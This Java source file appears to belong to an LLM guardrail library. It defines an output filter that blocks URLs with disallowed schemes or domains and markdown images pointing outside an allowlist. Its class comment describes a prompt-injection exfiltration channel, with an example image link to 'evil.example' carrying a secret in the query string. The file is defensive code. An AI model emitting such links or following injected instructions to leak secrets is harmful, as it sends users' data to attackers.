package dev.sluice.guardrails;

import dev.sluice.guardrail.GuardrailResult;
import dev.sluice.guardrail.OutputGuardrail;
import dev.sluice.model.ChatResponse;
import dev.sluice.pipeline.CallContext;
import java.net.URI;
import java.util.Locale;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * URL rules for answers: only allowed schemes, only allowed domains (and their subdomains), and no
 * markdown images pointing outside them — the classic exfiltration channel, where an injected
 * prompt makes the model render {@code ![](https://evil.example/?q=<secret>)}.
 */
public final class UrlRules implements OutputGuardrail {

  private static final Pattern URL = Pattern.compile("\\b([a-zA-Z][a-zA-Z0-9+.-]{1,15}):(//)?[^\\s<>\"'`)\\]]{1,2000}");
  static final Pattern MD_IMAGE = Pattern.compile("!\\[[^\\]\\n]{0,500}\\]\\(\\s{0,5}([^)\\s]{1,2000})");

  private final Set<String> schemes;
  private final Set<String> domains;

  public UrlRules(Set<String> schemes, Set<String> domains) {
    this.schemes = schemes.stream().map(s -> s.toLowerCase(Locale.ROOT)).collect(java.util.stream.Collectors.toSet());
    this.domains = domains.stream().map(s -> s.toLowerCase(Locale.ROOT)).collect(java.util.stream.Collectors.toSet());
  }

  @Override
  public String name() {
    return "url-rules";
  }

  /** Judges any piece of an answer: on a stream, each piece before it reaches the caller. */
  @Override
  public boolean checksPartialText() {
    return true;
  }

  @Override
  public GuardrailResult check(ChatResponse response, CallContext call) {
    String text = response.text();
    for (String target : imageTargets(text)) {
      if (!allowedDomain(target)) {
        return GuardrailResult.block("markdown image to a domain outside the allowlist");
      }
    }
    Matcher m = URL.matcher(text);
    while (m.find()) {
      String scheme = m.group(1).toLowerCase(Locale.ROOT);
      if (m.group(2) == null && !scheme.equals("mailto") && !scheme.equals("javascript") && !scheme.equals("data")) {
        continue; // "note: this" is not a URL
      }
      if (!schemes.contains(scheme)) {
        return GuardrailResult.block("URL scheme '" + scheme + "' is not allowed");
      }
      if (m.group(2) != null && !allowedDomain(m.group())) {
        return GuardrailResult.block("URL to a domain outside the allowlist");
      }
    }
    return GuardrailResult.pass();
  }

  /**
   * The targets of markdown images, {@code ![alt](target)}: what {@code MD_IMAGE} finds, by one pass.
   * The alt text ends at the first {@code ]} (or fails at a line break) within 500 characters;
   * the pointer to it only moves forward, so text of nothing but {@code ![} is linear with a small
   * constant (the pattern re-read up to 500 characters at every one: 7.7 ms per KB).
   */
  static java.util.List<String> imageTargets(String text) {
    java.util.List<String> out = new java.util.ArrayList<>();
    int n = text.length();
    int close = -1;
    int from = 0;
    for (int at = text.indexOf("![", from); at >= 0; at = text.indexOf("![", from)) {
      int altStart = at + 2;
      if (close < altStart) {
        close = altStart;
        while (close < n && text.charAt(close) != ']' && text.charAt(close) != '\n') {
          close++;
        }
      }
      from = at + 1;
      if (close >= n || text.charAt(close) != ']' || close - altStart > 500 || close + 1 >= n || text.charAt(close + 1) != '(') {
        continue;
      }
      int i = close + 2;
      int spaces = 0;
      while (i < n && spaces < 5 && KeywordAssignments.isSpace(text.charAt(i))) {
        i++;
        spaces++;
      }
      int end = i;
      while (end < n && end - i < 2000 && text.charAt(end) != ')' && !KeywordAssignments.isSpace(text.charAt(end))) {
        end++;
      }
      if (end > i) {
        out.add(text.substring(i, end));
        from = end;
      }
    }
    return out;
  }

  private boolean allowedDomain(String url) {
    try {
      String host = URI.create(url.trim()).getHost();
      if (host == null) {
        return false;
      }
      String h = host.toLowerCase(Locale.ROOT);
      for (String d : domains) {
        if (h.equals(d) || h.endsWith("." + d)) {
          return true;
        }
      }
      return false;
    } catch (IllegalArgumentException e) {
      return false;
    }
  }
}
